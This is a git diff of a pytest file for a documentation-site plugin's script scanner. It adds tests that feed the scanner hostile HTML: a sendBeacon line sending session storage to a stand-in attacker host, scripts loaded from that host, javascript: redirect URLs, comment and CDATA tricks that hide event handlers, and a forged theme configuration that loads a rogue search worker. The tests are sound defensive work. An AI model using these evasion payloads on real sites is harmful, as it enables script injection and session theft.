@@ -13,6 +13,7 @@ import subprocess
 import sys
 import zipfile
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -20,10 +21,19 @@ from mentorsite.crypto import open_site
 from mentorsite.portfolios import Shard
 from tests.canary import CanaryProgram, canary_program
 from tests.programs import write_files
-from tests.test_encryption import ENV, REVIEW_PASSPHRASE, encrypted_program, keys_yaml
+from tests.test_encryption import ENV, FOLDER_SECRET, REVIEW_PASSPHRASE, keys_yaml
+from tests.test_encryption import encrypted_program as encrypted_canary
 
 # Subprocesses run the package of this checkout, wherever the program folder is.
-RUN_ENV = {**ENV, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
+# The folder secret comes from the environment, so that the keys files are ones any version reads.
+RUN_ENV = {**ENV, "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
+           "MENTORSITE_FOLDER_SECRET": FOLDER_SECRET}
+
+
+def encrypted_program(root: Path, *arguments: Any, **options: Any) -> tuple[CanaryProgram, Path]:
+    """The encrypted canary program, its keys file without the folder secret (see RUN_ENV)."""
+    options.setdefault("keys", keys_yaml(secret=None))
+    return encrypted_canary(root, *arguments, **options)
 WITHDRAWN = ("WARNING -  mentorsite: pair cy-dee: review edition withdrawn from the reviewer site: "
              "its records have errors; it comes back when they pass")
 
@@ -169,7 +179,7 @@ def test_an_encrypted_reviewer_site_not_sealed_again_is_withdrawn(
     """Break 2, sealed: the reviewers' passphrase is missing while a pair's review edition is
     withdrawn; before, the encrypted reviewer site of the last build stayed published."""
     _, folder = copy_of(encrypted, tmp_path)
-    (folder.parent / "keys.yml").write_text(keys_yaml(review=None))
+    (folder.parent / "keys.yml").write_text(keys_yaml(review=None, secret=None))
     retract(folder, "pair-only")
 
     result = run(folder, "build", "--pair", "cy-dee")  # a whole build empties site_dir first
@@ -181,6 +191,7 @@ def test_an_encrypted_reviewer_site_not_sealed_again_is_withdrawn(
 
 
 EXPECTED = "expected only the theme's own scripts on the host name of the encrypted portfolios"
+IN_COMMENT = "in an HTML comment (a browser may end one sooner than it seems: delete the comment)"
 OVERRIDE = ('{% extends "base.html" %}\n{% block scripts %}{{ super() }}'
             '<script>navigator.sendBeacon("https://attacker.invalid/", sessionStorage.key(0))</script>'
             '{% endblock %}\n')
@@ -250,7 +261,8 @@ def test_the_override_script_is_named_once_with_its_page_count(tmp_path: Path) -
 def test_scripts_in_disguise_are_found_in_handbook_pages(tmp_path: Path) -> None:
     """Break 4: the ways raw HTML (or an override) can run a script on the handbook's origin
     without a plain `<script src>`: SVG script href, a srcdoc frame, a base address that moves
-    the theme's own scripts, an entity-spelt javascript: link; a JSON script and a comment run nothing."""
+    the theme's own scripts, an entity-spelt javascript: link; a JSON script runs nothing. A script in a comment is reported
+    too (comments are read as markup, fail closed: see the comment tricks below)."""
     _, folder = encrypted_program(tmp_path)
     hostile = ('<svg><script xlink:href="https://attacker.invalid/a.js"></script></svg>\n\n'
                '<iframe srcdoc="&lt;script&gt;parent.x()&lt;/script&gt;"></iframe>\n\n'
@@ -267,7 +279,147 @@ def test_scripts_in_disguise_are_found_in_handbook_pages(tmp_path: Path) -> None
     assert found == ["a base address for every relative script (https://attacker.invalid/)",
                      "a frame with a page of its own (srcdoc: <script>parent.x()</script>)",
                      "a javascript: link (alert(1))",
-                     "a script from another host (https://attacker.invalid/a.js)"]
+                     "a script from another host (https://attacker.invalid/a.js)",
+                     f"an inline script (no()) {IN_COMMENT}"]
+
+
+def origin_findings(folder: Path, files: dict[str, str]) -> tuple[int, list[str]]:
+    """Build with ``files`` written; the return code and each shared-origin finding as 'page: what'."""
+    scripted(folder, files=files)
+    result = run(folder, "build")
+    return result.returncode, sorted(
+        f"{line.split('ERROR   -  ')[1].split(':')[0]}: {line.split(f'{EXPECTED}, got ')[1]}"
+        for line in result.stderr.splitlines() if "[shared-origin]" in line and f"{EXPECTED}, got " in line)
+
+
+REDIRECT = '<script>window.location.replace([{},window.location.search,window.location.hash].join(""))</script>'
+
+
+def test_a_copy_of_the_themes_redirect_script_with_other_strings_is_reported(tmp_path: Path) -> None:
+    """Break 1 of issue 16 (attacker review): an inline script counted as the theme's when it was one of
+    the theme's with any string literals, so Material's redirect script with a `javascript:` URL (or
+    another host, or an escape spelling one) ran on the portfolios' origin unreported. Strings the
+    template writes itself must be as written; those it fills in may not name a scheme or a host."""
+    _, folder = encrypted_program(tmp_path)
+    values = ['"javascript:alert(document.domain)//"', '" JavaScript:alert(1)"', '"//attacker.invalid/"',
+              '"\\x6aavascript:alert(3)"', '"data:text/html,x"']
+    hostile = "\n\n".join(REDIRECT.format(value) for value in values)
+
+    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}\n"})
+
+    assert code == 1
+    assert len(found) == len(values)
+    assert all(line.startswith("site/index.html: an inline script (window.location.replace([") for line in found)
+
+
+def test_comment_tricks_hide_no_script_from_the_origin_scan(tmp_path: Path) -> None:
+    """Break 2 of issue 16 (attacker review): browsers end a comment at `<!-->`, `<!--->` and `--!>`, where
+    the scan's comment pattern did not, so an event handler or a script after them ran unreported;
+    CDATA and bogus comments (`<!x>`, `<?x>`) hid nothing either. Their inside is now read as markup."""
+    _, folder = encrypted_program(tmp_path)
+    hostile = ('<!--><img src=x onerror="alert(1)">-->\n\n'
+               '<!-- --!><script>alert(2)</script> -->\n\n'
+               '<!---><img src=x onerror="alert(3)">-->\n\n'
+               '<![CDATA[ ]]><svg onload="alert(4)"></svg>\n\n'
+               '<!x --><img src=x onerror="alert(5)">\n')
+
+    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}"})
+
+    assert code == 1
+    assert found == [f"site/index.html: an event handler attribute (onerror=alert(1)) {IN_COMMENT}",
+                     f"site/index.html: an event handler attribute (onerror=alert(3)) {IN_COMMENT}",
+                     "site/index.html: an event handler attribute (onerror=alert(5))",
+                     "site/index.html: an event handler attribute (onload=alert(4))",
+                     "site/index.html: an inline script (alert(2))"]  # Markdown ends that comment at --!>
+    from mentorsite.origins import page_scripts  # the same written raw in a theme override (no Markdown)
+
+    raw = "<!-- --!><script>alert(2)</script> --><!--><img src=x onerror=alert(1)>--><![CDATA[<script>x()</script>]]>"
+    assert [kind for _, kind, _ in page_scripts(raw)] == ["inline", "handler", "inline"]
+
+
+def test_pages_with_any_name_a_browser_runs_scripts_in_are_scanned(tmp_path: Path) -> None:
+    """Break 3 of issue 16 (attacker review): only `*.html`, `*.htm`, `*.xhtml` and `*.svg` were scanned,
+    case-sensitively, so a static file `EVIL.HTML`, `a.xht`, `a.shtml`, `a.xml` (or a gzipped SVG)
+    served as a page ran its script on the portfolios' origin unreported."""
+    import gzip
+
+    _, folder = encrypted_program(tmp_path)
+    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert({})</script></svg>'
+    xhtml = ('<html xmlns="http://www.w3.org/1999/xhtml"><body><html:script xmlns:html='
+             '"http://www.w3.org/1999/xhtml">alert({})</html:script></body></html>')
+    names = {"EVIL.HTML": "<script>alert(1)</script>", "a.xht": xhtml.format(2), "a.shtml": svg.format(3),
+             "a.xml": xhtml.format(4), "b.SVG": svg.format(5), "c.Htm": svg.format(6)}
+    write_files(folder / "content/handbook/extra", names)
+    (folder / "content/handbook/extra/d.svgz").write_bytes(gzip.compress(svg.format(7).encode()))
+
+    code, found = origin_findings(folder, {})
+
+    assert code == 1
+    assert {line.split(": ", 1)[0] for line in found} == {
+        f"site/extra/{name}" for name in [*names, "d.svgz"]}
+    assert {line.split(": ", 1)[1] for line in found} == {f"an inline script (alert({n}))" for n in range(1, 8)}
+
+
+@pytest.mark.parametrize("name", ["portfolios/evil.html", "portfolios/about.md", "portfolios/pairs/x.html"])
+def test_a_handbook_file_inside_the_sealed_folder_is_refused(name: str, tmp_path: Path) -> None:
+    """Break 4 of issue 16 (attacker review): the scan skipped the whole sealed folder (site/portfolios),
+    so a handbook file written there (`portfolios/evil.html` in docs_dir, or a page that lands in
+    `site/portfolios/about/`) ran its script on the portfolios' origin unreported. Such a file is now
+    refused at its path, and the scan leaves out only the folders mentorsite writes (pairs/, review/)."""
+    _, folder = encrypted_program(tmp_path)
+    write_files(folder / "content/handbook", {name: "<script>alert(1)</script>\n"})
+
+    result = run(folder, "build")
+
+    assert result.returncode == 1
+    source = (folder / "content/handbook" / name).resolve()
+    assert f"{source}:1:1: error[shared-origin] expected no handbook file in encryption.output_dir" \
+           in result.stderr
+    assert not (folder / "site/portfolios/review").exists()
+
+
+def test_the_scan_leaves_out_only_the_folders_mentorsite_writes_in_the_sealed_folder(tmp_path: Path) -> None:
+    """Break 4 of issue 16 (attacker review), the scan itself: `check_shared_origin` left out the whole
+    sealed folder, so a page in site/portfolios/ beside the sealed sites (written there by another
+    plugin, or left from elsewhere) ran unreported; now only pairs/ and review/ are left out."""
+    from mkdocs.config import load_config
+    from mkdocs.exceptions import PluginError
+
+    from mentorsite.portfolios import check_shared_origin
+
+    _, folder = encrypted_program(tmp_path)
+    config = load_config(str(folder / "mkdocs.yml"))
+    site = Path(config.site_dir)
+    write_files(site, {"index.html": "<p>home</p>", "portfolios/about/index.html": "<script>alert(1)</script>",
+                       "portfolios/pairs/a/index.html": "<script>sealed()</script>",
+                       "portfolios/review/index.html": "<script>sealed()</script>"})
+
+    with pytest.raises(PluginError):
+        check_shared_origin(config, site / "portfolios", "refuse")
+    found = check_shared_origin(config, site / "portfolios", "warn")
+
+    assert [(problem.path, problem.message.split(", got ")[1]) for problem in found] == [
+        ("site/portfolios/about/index.html", "an inline script (alert(1))")]
+
+
+def test_a_second_theme_configuration_naming_another_search_worker_is_reported(tmp_path: Path) -> None:
+    """Break 5 of issue 16 (attacker review): a guideline's own `<script id="__config" type="application/json">`
+    comes before the theme's, so Material read its `search` and ran `../../gadget.js` as its search
+    worker, on the portfolios' origin. A second element with a theme id (`__...`), and settings whose
+    search worker is not the theme's file, are reported."""
+    _, folder = encrypted_program(tmp_path)
+    hostile = ('<script id="__config" type="application/json">{"base": ".", "features": [], '
+               '"search": "../../gadget.js"}</script>\n')
+
+    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}",
+                                           "content/handbook/gadget.js": "alert(1)\n",
+                                           "content/handbook/other.md": '# Other\n\n<div id="__drawer"></div>\n'})
+
+    assert code == 1
+    assert found == ["site/index.html: a second element with the theme's id '__config' (the first one wins)",
+                     "site/index.html: theme settings (id '__config') with a search worker not the theme's "
+                     "(../../gadget.js)",
+                     "site/other/index.html: a second element with the theme's id '__drawer' (the first one wins)"]
 
 
 def test_shared_origin_warn_publishes_with_warnings_and_pair_builds_are_checked_too(tmp_path: Path) -> None:
